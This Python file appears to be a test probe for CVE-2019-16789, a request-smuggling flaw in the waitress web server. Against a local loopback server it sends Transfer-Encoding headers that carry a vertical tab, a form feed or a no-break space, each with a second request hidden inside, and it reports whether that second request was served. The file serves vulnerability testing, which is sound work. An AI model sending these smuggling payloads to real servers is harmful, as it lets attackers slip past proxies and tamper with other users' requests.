# /// vertice-probe
# id = "PYSEC-2019-138"
# aliases = ["CVE-2019-16789", "GHSA-968f-66r5-5v74"]
# package = "waitress"
# summary = "Odd white space around a Transfer-Encoding is ignored, so one request for a proxy is two for the server."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N" }]
# cwe = ["CWE-444"]
# kind = "request-smuggling"
# symbols = ["waitress.serve", "waitress.create_server", "waitress.serve_paste", "waitress.parser.HTTPRequestParser"]
#
# [[affected]]
# package = "waitress"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "1.4.1" }] }]
#
# [cases]
# attack = "a vertical tab before `chunked` is ignored and a second request gets through"
# [cases.variants]
# form_feed = "the same with a form feed behind the value"
# no_break_space = "the same with a no-break space (byte A0)"
# [cases.controls]
# pipeline = "two ordinary requests, one chunked with blanks around the value, are served"
#
# [test]
# vulnerable = "1.4.0"
# fixed = "1.4.2"
# ///
"""CVE-2019-16789: white space in Transfer-Encoding.

1.4.1 refuses control characters but still strips bytes 85 and A0, so the attack goes on; 1.4.2 is the first release
that refuses those too.
"""

import json
import logging
import re
import socket
import sys
import threading
import warnings

warnings.simplefilter("ignore")
FOLLOWING = b"GET /smuggled HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"


def converse(data):
    """Send `data` to a waitress server on loopback; (paths the application served, status lines that came back)."""
    import waitress

    served = []

    def application(environ, start_response):
        environ["wsgi.input"].read()
        served.append(environ["PATH_INFO"])
        start_response("200 OK", [("Content-Type", "text/plain"), ("Content-Length", "2")])
        return [b"ok"]

    logging.getLogger("waitress").addHandler(logging.NullHandler())
    server = waitress.create_server(application, host="127.0.0.1", port=0, threads=1)
    port = server.socket.getsockname()[1]
    threading.Thread(target=server.run, daemon=True).start()
    client = socket.create_connection(("127.0.0.1", port), 10)
    client.sendall(data)
    client.settimeout(5)  # the server closes after the last request and after a bad one
    answer = b""
    try:
        while True:
            piece = client.recv(65536)
            if not piece:
                break
            answer += piece
    except socket.timeout:
        pass
    return served, re.findall(r"HTTP/1\.[01] \d+ [A-Za-z ]+", answer.decode("latin-1"))


def converse_and_look(encoding):
    body = b"0\r\n\r\n" + FOLLOWING
    head = b"POST /front HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\nTransfer-Encoding:%s\r\n\r\n" % (
        len(body),
        encoding,
    )
    served, statuses = converse(head + body)
    if "/smuggled" in served:
        return "exploited", "the server answered a second request hidden in the first: %s" % served
    if served or [status.split()[1] for status in statuses] not in (["400"], ["501"]):
        return "error", "served %r, answered %r" % (served, statuses)
    return "blocked", "the request was refused with %s" % statuses[0]


def attack():
    return converse_and_look(b"\x0bchunked")


def form_feed():
    return converse_and_look(b" chunked\x0c")


def no_break_space():
    return converse_and_look(b" \xa0chunked")


def pipeline():
    served, statuses = converse(
        b"POST /one HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: \t chunked \r\n\r\n3\r\nabc\r\n0\r\n\r\n"
        b"GET /two HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
    )
    good = served == ["/one", "/two"] and statuses == ["HTTP/1.1 200 OK"] * 2
    return ("works", "two requests served") if good else ("broken", "%r %r" % (served, statuses))


CASES = {"attack": attack, "form_feed": form_feed, "no_break_space": no_break_space, "pipeline": pipeline}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
